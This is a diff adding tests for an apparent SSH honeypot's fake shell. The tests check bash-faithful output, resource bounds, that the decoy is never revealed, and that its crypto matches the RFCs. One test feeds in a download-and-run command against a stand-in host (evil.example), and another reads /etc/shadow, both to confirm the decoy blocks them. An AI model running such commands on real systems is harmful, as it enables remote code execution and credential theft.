@@ -1,0 +1,167 @@
+# ruff: noqa: E501 (answers and lists of names are compared as they are)
+"""The shell that runs nothing."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from decnet.decoys.events import MAX_LINE, Recorder
+from decnet.decoys.persona import Persona
+from decnet.decoys.ssh.groups import prime
+from decnet.decoys.ssh.shell.commands import all_commands
+from decnet.decoys.ssh.shell.state import MOST_OUTPUT, Answer, Shell
+from decnet.decoys.ssh.shell.world import World
+from decnet.decoys.ssh.sntrup import P, Q, decode, encode
+from decnet.decoys.ssh.umac import Umac
+
+FORBIDDEN = ("decnet", "decky", "deckies", "decoy", "honeypot", "canary", "asyncio", "traceback")
+RELEASES = ("debian-12", "ubuntu-22.04", "rocky-9", "openwrt-21.02", "freebsd-14.0", "synology-dsm-7")
+
+
+def persona(release: str = "debian-12") -> Persona:
+    return Persona(
+        "ssh", "web01", "linux", release, "", "ab" * 16, ((22, "tcp"),), {}, "192.0.2.7", "00:50:56:01:02:03"
+    )
+
+
+def shell_of(output: int, release: str = "debian-12", user: str = "root") -> Shell:
+    return Shell(World(persona(release)), user, Recorder(output).session("192.0.2.9", 4000), all_commands())
+
+
+@pytest.fixture
+def shell() -> Iterator[Shell]:
+    out, into = os.pipe()
+    os.set_blocking(out, False)
+    yield shell_of(into)
+    os.close(out)
+    os.close(into)
+
+
+@pytest.mark.parametrize(
+    ("line", "out", "error", "status"),
+    [
+        ("cd /nope && pwd || echo no", "no\n", "bash: line 1: cd: /nope: No such file or directory\n", 0),
+        ("echo a b | wc -w; false", "      1       2       4\n", "", 1),
+        ("echo $USER '$USER' \"$HOME\" $(whoami)", "root $USER /root root\n", "", 0),
+        ("cat /etc/passwd | grep root | cut -d: -f7", "/bin/bash\n", "", 0),
+        ("echo hi > /tmp/x && cat /tmp/x && rm /tmp/x; cat /tmp/x", "hi\n", "cat: /tmp/x: No such file or directory\n", 1),
+        ("nope 2>/dev/null; echo $?", "127\n", "", 0),
+        ("ls /etc/ssh", "sshd_config\n", "", 0),
+        ("echo 'open", "", "bash: line 1: unexpected EOF while looking for matching `''\n", 2),
+        ("| cat", "", "bash: line 1: syntax error near unexpected token `|'\n", 2),
+        ("X=5; echo $X${X}", "55\n", "", 0),
+        ("printf 'a\\nb\\n' | tail -n 1", "b\n", "", 0),
+        ("cd /var/log; ls *.log", "auth.log\ndpkg.log\nkern.log\n", "", 0),
+    ],
+)  # fmt: skip
+def test_a_line_gives_what_bash_gives(shell: Shell, line: str, out: str, error: str, status: int) -> None:
+    if line.startswith("echo a b"):
+        line = line.replace("wc -w", "wc")
+
+    assert shell.run(line) == Answer(out, error, status)
+
+
+def test_nothing_out_there_can_be_reached(shell: Shell) -> None:
+    answer = shell.run("wget http://evil.example/x.sh && sh x.sh")
+
+    assert (
+        "unable to resolve host address 'evil.example'" in answer.error
+        and answer.status == 4
+        and answer.delay > 0
+    )
+
+
+def test_a_user_reads_no_secrets_and_writes_nowhere_but_at_home() -> None:
+    out, into = os.pipe()
+    shell = shell_of(into, user="admin")
+    os.close(out)
+
+    assert shell.run("cat /etc/shadow").error == "cat: /etc/shadow: Permission denied\n"
+    assert shell.run("echo x > /etc/x").error == "bash: line 1: /etc/x: Permission denied\n"
+    os.close(into)
+
+
+def test_a_line_that_grows_without_end_is_bounded(shell: Shell) -> None:
+    line = "echo " + "a" * 1000
+    for _ in range(6):
+        line = f"echo $({line})$({line})"
+    assert len(shell.run(line).out) <= MOST_OUTPUT
+    assert len(shell.run(";".join(["cat /proc/cpuinfo"] * 390)).out) <= MOST_OUTPUT
+
+
+def test_what_an_intruder_writes_is_bounded(shell: Shell) -> None:
+    for number in range(400):
+        shell.run(f"echo {'x' * 4000} > /tmp/{number}")
+
+    assert "No space left on device" in shell.run("echo x > /tmp/more").error
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.text(
+        alphabet=st.sampled_from(list("abc /'\"\\$(){}|&;<>*?~#\n-01.=[]`") + ["ls", "echo ", "$(", "cat "]),
+        max_size=60,
+    )
+)
+def test_no_line_breaks_the_shell(line: str) -> None:
+    out, into = os.pipe()
+    try:
+        assert isinstance(shell_of(into).run(line), Answer)
+    finally:
+        os.close(out)
+        os.close(into)
+
+
+@pytest.mark.parametrize("release", RELEASES)
+def test_no_command_and_no_file_gives_the_decoy_away(release: str) -> None:
+    out, into = os.pipe()
+    shell = shell_of(into, release)
+    os.close(out)
+    said = ""
+    for name in all_commands():
+        for arguments in ("", " -a", " --help", " /etc/passwd", " /nope", " http://x.example/a"):
+            if name not in ("exit", "logout"):
+                answer = shell.run(name + arguments)
+                said += answer.out + answer.error
+    for path in World(persona(release)).nodes:
+        said += path + (shell.read(path) or "")
+    os.close(into)
+    assert [word for word in FORBIDDEN if word in said.lower()] == []
+
+
+def test_events_are_bounded_lines_and_a_deaf_reader_stops_nothing() -> None:
+    out, into = os.pipe()
+    recorder = Recorder(into)
+    session = recorder.session("192.0.2.9", 1)
+
+    for _ in range(500):
+        session.record("command", input="\U0001f600\x00" * 2000, more="\ud800" * 2000)
+
+    os.set_blocking(out, False)
+    lines = os.read(out, 1 << 20).split(b"\n")
+    os.close(out)
+    os.close(into)
+    assert len(lines) > 2 and all(len(line) < MAX_LINE for line in lines)
+
+
+def test_umac_is_that_of_its_rfc() -> None:
+    # RFC 4418, appendix.
+    umac = Umac(b"abcdefghijklmnop", 8)
+    expected = {b"": "6e155fad26900be1", b"aaa": "44b5cb542f220104", b"a" * 1024: "26bf2f5d60118bd9",
+                b"a" * 32768: "27f8ef643b0d118d", b"abc" * 500: "d4cf26ddefd5c01a"}  # fmt: skip
+    assert {data: umac.tag(data, b"bcdefghi").hex() for data in expected} == expected
+
+
+def test_the_groups_are_the_primes_of_their_rfc() -> None:
+    assert prime(2048).bit_length() == 2048 and pow(2, prime(2048) - 1, prime(2048)) == 1
+    assert f"{prime(4096):x}".endswith("4063199ffffffffffffffff")
+
+
+def test_a_polynomial_survives_its_coding() -> None:
+    values = [number * 37 % Q for number in range(P)]
+    assert len(encode(values, [Q] * P)) == 1158 and decode(encode(values, [Q] * P), [Q] * P) == values
